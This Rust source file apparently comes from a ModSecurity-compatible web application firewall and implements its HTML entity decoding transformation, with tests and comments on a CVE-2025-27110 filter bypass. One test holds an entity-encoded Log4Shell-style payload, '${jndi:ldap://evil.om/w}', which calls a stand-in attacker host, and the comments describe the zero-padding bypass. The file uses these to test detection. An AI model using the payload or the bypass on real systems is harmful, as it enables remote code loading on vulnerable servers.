//! `t:htmlEntityDecode`: decodes `&#DDD;`, `&#xHH;` and the five named entities ModSecurity knows.
//!
//! `&#` + decimal digits and `&#x`/`&#X` + hex digits decode to one byte: the number modulo 256,
//! or 0xFF when it overflows a 64-bit `long` (C's `strtol`), with any number of digits, so leading
//! zeros do not stop decoding. `&quot`, `&amp`, `&lt`, `&gt` and `&nbsp` (whole alphanumeric name,
//! any case) decode to `"`, `&`, `<`, `>` and 0xA0. The `;` is optional and consumed when present.
//! Anything else is copied as it is.
//!
//! Follows v3.0.9 (and v3.0.14, which restored it after CVE-2025-27110). v3/master at the
//! reference commit reads at most 3 decimal or 2 hex digits, so
//! `&#00000000000000000000000000000000000000000000000123;` gives `\0` followed by the rest of the
//! digits instead of `{` (the bypass of that CVE); it also matches named entities by prefix
//! (`&ltfoo;` gives `<`), where v3.0.9 requires the whole name.

use std::borrow::Cow;

use super::{copy_run, decode_copy, decode_owned, strtol_digits_to_byte};

/// Applies `t:htmlEntityDecode`.
pub fn html_entity_decode(input: &[u8]) -> Cow<'_, [u8]> {
    decode_copy(input, super::find_byte(b'&', input), in_place)
}

/// `t:htmlEntityDecode` on an owned value, in place.
pub(crate) fn html_entity_decode_owned(buf: Vec<u8>) -> Vec<u8> {
    let start = memchr::memchr(b'&', &buf);
    decode_owned(buf, start, in_place)
}

/// The byte a named entity stands for.
fn named(name: &[u8]) -> Option<u8> {
    const NAMES: [(&[u8], u8); 5] = [
        (b"quot", b'"'),
        (b"amp", b'&'),
        (b"lt", b'<'),
        (b"gt", b'>'),
        (b"nbsp", 0xa0),
    ];
    NAMES
        .iter()
        .find(|(n, _)| n.eq_ignore_ascii_case(name))
        .map(|&(_, b)| b)
}

fn in_place(buf: &mut Vec<u8>, start: usize) {
    let len = buf.len();
    let mut i = start;
    let mut d = start;
    while i < len {
        if buf[i] != b'&' {
            let run = memchr::memchr(b'&', &buf[i..]).unwrap_or(len - i);
            (i, d) = copy_run(buf, i, d, run);
            continue;
        }
        // How many bytes to copy unchanged when no entity decodes here.
        let mut copy = 1;
        if buf[i] == b'&' && i + 1 < len {
            let mut j = i + 1;
            if buf[j] == b'#' {
                copy += 1;
                if j + 1 < len {
                    j += 1;
                    let hex = buf[j] == b'x' || buf[j] == b'X';
                    if hex {
                        copy += 1;
                    }
                    if !hex || j + 1 < len {
                        if hex {
                            j += 1;
                        }
                        let k = j;
                        while j < len
                            && (if hex {
                                buf[j].is_ascii_hexdigit()
                            } else {
                                buf[j].is_ascii_digit()
                            })
                        {
                            j += 1;
                        }
                        if j > k {
                            buf[d] = strtol_digits_to_byte(&buf[k..j], if hex { 16 } else { 10 });
                            d += 1;
                            i = if j < len && buf[j] == b';' { j + 1 } else { j };
                            continue;
                        }
                    }
                }
            } else {
                let k = j;
                while j < len && buf[j].is_ascii_alphanumeric() {
                    j += 1;
                }
                if j > k {
                    match named(&buf[k..j]) {
                        Some(b) => {
                            buf[d] = b;
                            d += 1;
                            i = if j < len && buf[j] == b';' { j + 1 } else { j };
                            continue;
                        }
                        None => copy = j - k + 1,
                    }
                }
            }
        }
        for _ in 0..copy {
            buf[d] = buf[i];
            d += 1;
            i += 1;
        }
    }
    buf.truncate(d);
}

/// `t:htmlEntityDecode` into `out` (see [`crate::apply_into`]): whether the value changed.
pub(crate) fn html_entity_decode_into(input: &[u8], out: &mut Vec<u8>) -> bool {
    super::decode_into(input, super::find_byte(b'&', input), out, in_place)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn h(s: &[u8]) -> Vec<u8> {
        html_entity_decode(s).into_owned()
    }

    #[test]
    fn long_zero_padded_numeric_entities_decode() {
        assert_eq!(
            h(b"&#00000000000000000000000000000000000000000000000123;"),
            b"{"
        );
        assert_eq!(
            h(b"&#x24;&#00000000000000000000000000000000000000000000000123;jndi:ldap://evil.om/w}"),
            b"${jndi:ldap://evil.om/w}"
        );
        assert_eq!(h(b"&#x000000000000000000000000003c;"), b"<");
    }

    #[test]
    fn numbers_wrap_and_overflow_like_strtol() {
        assert_eq!(h(b"&#4142;"), b".");
        assert_eq!(h(b"&#x4142;"), b"B");
        assert_eq!(h(b"&#99999999999999999999;"), b"\xff");
    }

    #[test]
    fn named_entities_need_the_whole_name() {
        assert_eq!(h(b"&quot&amp&lt&gt&nbsp"), b"\"&<>\xa0");
        assert_eq!(h(b"&LT;&Gt;"), b"<>");
        assert_eq!(h(b"&ltfoo;&foo;"), b"&ltfoo;&foo;");
    }

    #[test]
    fn truncated_entities_stay() {
        for s in [&b"&"[..], b"&#", b"&#x", b"&#;", b"&#x;", b"a&", b"&;"] {
            assert_eq!(h(s), s);
            assert!(matches!(html_entity_decode(s), Cow::Borrowed(_)));
        }
        assert_eq!(h(b"&#x&#x41;"), b"&#xA");
    }
}
